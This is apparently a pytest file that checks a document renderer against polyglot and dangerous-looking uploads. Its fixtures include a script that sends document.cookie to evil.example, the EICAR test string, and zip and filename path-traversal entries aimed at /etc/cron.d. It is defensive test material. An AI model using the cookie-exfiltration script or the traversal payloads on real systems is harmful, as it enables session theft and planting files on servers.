"""Files that are two things at once, or only look dangerous: they are refused, or inert."""

import pytest

from bot.ports.documents import NotRendered
from integrations.documents.renderer import TypstRenderer
from tests.integrations.documents.strange_files import TINY_GIF, packed, png

RENDERER = TypstRenderer()
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR" + rb"-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""The test file of virus scanners (eicar.org), harmless, in two parts for the sake of scanners."""


@pytest.mark.parametrize(
    "content",
    [TINY_GIF + SCRIPT, b"GIF89a/*" + TINY_GIF[8:] + b"*/=1;" + SCRIPT, b"%PDF-1.7\n" + SCRIPT],
)
def test_what_is_not_what_it_begins_as_is_refused(content: bytes) -> None:
    with pytest.raises(NotRendered, match=r"is damaged; please hand it in once more\."):
        RENDERER.glimpse("picture.gif", content)


@pytest.mark.parametrize(
    ("name", "content", "mime"),
    [
        ("picture.png", png(4, 4) + SCRIPT, "image/png"),
        ("picture.png", png(4, 4) + packed({"a.html": SCRIPT}), "image/png"),
        ("brand.zip", packed({"a.html": SCRIPT, "../../etc/cron.d/x": b"*"}), "application/zip"),
        ("notes.txt", EICAR, "text/plain"),
        ("../../../etc/cron.d/evil.txt", b"* * * * * root id", "text/plain"),
    ],
)
def test_what_is_taken_is_of_a_kind_that_no_browser_runs(
    name: str, content: bytes, mime: str
) -> None:
    found = RENDERER.glimpse(name, content)

    assert found.mime == mime
    assert SCRIPT not in found.picture
